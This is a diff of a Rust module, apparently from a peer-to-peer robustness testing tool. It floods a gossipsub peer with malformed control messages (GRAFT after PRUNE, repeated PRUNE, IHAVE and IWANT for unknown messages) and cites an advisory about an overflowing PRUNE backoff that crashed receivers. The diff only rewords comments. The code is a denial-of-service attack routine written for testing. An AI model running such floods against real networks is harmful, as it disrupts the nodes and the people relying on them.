@@ -1,5 +1,5 @@
-//! A peer that floods others with what governs the mesh (gossipsub specification v1.1,
-//! "Control messages"): GRAFT after PRUNE, PRUNE for ever, IHAVE and IWANT of what does not exist.
+//! Gossipsub control message flood (gossipsub specification v1.1, "Control messages"): GRAFT after PRUNE,
+//! endless PRUNE, IHAVE and IWANT of unknown messages.
 
 use crate::{
     attack::{field, framed, number},
@@ -8,11 +8,11 @@ use crate::{
     raw::{LISTINGS, Raw},
 };
 
-/// RPCs of the flood, each with as many of each kind of message.
+/// RPCs of the flood, and control messages of each kind per RPC.
 const RPCS: u64 = 200;
 const OF_EACH: u64 = 60;
 
-/// Whether all of it was read.
+/// Sends the flood; returns whether the victim read all of it.
 async fn flood(peer: &mut Raw) -> bool {
     for round in 0..RPCS {
         if !peer.say(&framed(&field(3, &control(round)))).await {
@@ -22,7 +22,7 @@ async fn flood(peer: &mut Raw) -> bool {
     true
 }
 
-/// What no honest peer says. A PRUNE for longer than there is time once stopped the program of whoever heard it
+/// Builds an RPC that no honest peer sends. A PRUNE with an overflowing backoff once crashed the receiver
 /// (GHSA-gc42-3jg7-rxr2).
 fn control(round: u64) -> Vec<u8> {
     let name = |n: u64| field(2, &[&round.to_be_bytes()[..], &n.to_be_bytes()].concat());
